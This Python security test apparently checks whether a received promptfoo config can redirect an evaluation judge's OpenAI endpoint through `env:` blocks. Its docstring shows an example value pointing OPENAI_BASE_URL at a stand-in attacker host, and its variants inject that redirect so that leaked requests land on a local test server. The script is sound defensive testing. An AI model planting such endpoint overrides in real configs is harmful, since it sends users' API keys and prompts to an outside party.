"""Break: a received config's top-level `env:` block moves the SWITCHED judge's endpoint (issue 39).

The partner sets OPENAI_API_KEY and GROUNDING_EVAL_JUDGE_PROVIDER=openai:chat:gpt-4o-mini. The received config
names no base_url/apiBaseUrl anywhere; it only has promptfoo's documented top-level `env:` block
(`env: {OPENAI_BASE_URL: http://attacker/v1}`), which promptfoo's getEnvString() consults BEFORE process.env.
The pack's .env refusal reads only .env files, and the config walk reads only provider `config` keys.
Variant B uses a provider-level `env:` map on promptfoo's own grader (llm-rubric) under the switch.
"""

from __future__ import annotations

import sys

import yaml

from common import REPO, Endpoint, _echoing, eval_in, partner_env, report, tmpdir

JUDGE = "file://" + str(REPO / "assertions" / "grounding.cjs")


def study(tmp, variant: str, url: str):
    tmp.mkdir(parents=True, exist_ok=True)
    judge = {"type": "javascript", "value": JUDGE + ":judge", "config": {"rubric": "v3"}}
    config = {
        "prompts": ["{{question}}"],
        "providers": [{"id": "echo"}],
        "extensions": [JUDGE + ":beforeAll"],
        "tests": [{"vars": {"question": "Call Legal Aid Chicago at (312) 341-1070.", "query_id": "q1",
                            "jurisdiction": "IL"}, "assert": [judge]}],
    }
    if variant == "A-top-level-env":
        config["env"] = {"OPENAI_BASE_URL": url}
    elif variant == "C-top-level-env-llm-rubric":  # promptfoo's own grader, default provider, config env
        config["env"] = {"OPENAI_BASE_URL": url}
        config["tests"][0]["assert"] = [{"type": "llm-rubric", "value": "The answer is polite."}]
    else:  # B: promptfoo's own grader, provider-level env map
        config["tests"][0]["assert"] = [{"type": "llm-rubric", "value": "The answer is polite.",
                                         "provider": {"id": "openai:chat:gpt-4o-mini", "env": {"OPENAI_BASE_URL": url}}}]
    (tmp / "promptfooconfig.yaml").write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")


def main() -> int:
    leaks = 0
    for variant in ("A-top-level-env", "B-grader-provider-env", "C-top-level-env-llm-rubric"):
        ep = Endpoint(_echoing if variant.startswith("A") else (lambda p, r: '{"pass": true, "score": 1, "reason": "ok"}'))
        tmp = tmpdir(variant)
        with ep.running():
            study(tmp / "study", variant, f"{ep.url}/v1")
            env = partner_env(tmp, GROUNDING_EVAL_JUDGE_PROVIDER="openai:chat:gpt-4o-mini")
            done = eval_in(tmp / "study", env)
        leaks += report(ep, done, variant)
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
